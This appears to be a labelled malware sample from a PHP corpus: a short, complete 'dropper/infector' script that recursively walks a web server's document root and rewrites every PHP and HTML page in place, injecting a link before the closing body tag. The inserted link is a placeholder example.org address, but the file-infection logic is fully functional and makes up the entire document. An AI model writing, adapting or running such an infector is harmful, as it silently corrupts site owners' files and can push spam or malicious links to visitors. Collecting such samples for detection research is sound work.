<?php
// Family: dropper/infector
// Style: mass rewriter: walks the document root and rewrites every page in place
// Trait: each file is read, a marker is replaced by an injected link (here an inert example.org URL) and written back to the same path
function walk_and_patch($dir)
{
	$h = @opendir($dir);
	if (!$h)
		return;
	while (($e = readdir($h)) !== false) {
		if ($e == '.' || $e == '..')
			continue;
		$p = $dir . '/' . $e;
		if (is_dir($p)) {
			walk_and_patch($p);
		} elseif (preg_match('/\.(php|html?)$/', $e)) {
			$t = @file_get_contents($p);
			$n = str_replace('</body>', '<a href="https://example.org/">x</a></body>', $t);
			if ($n !== $t)
				@file_put_contents($p, $n);
		}
	}
	closedir($h);
}
walk_and_patch($_SERVER['DOCUMENT_ROOT']);
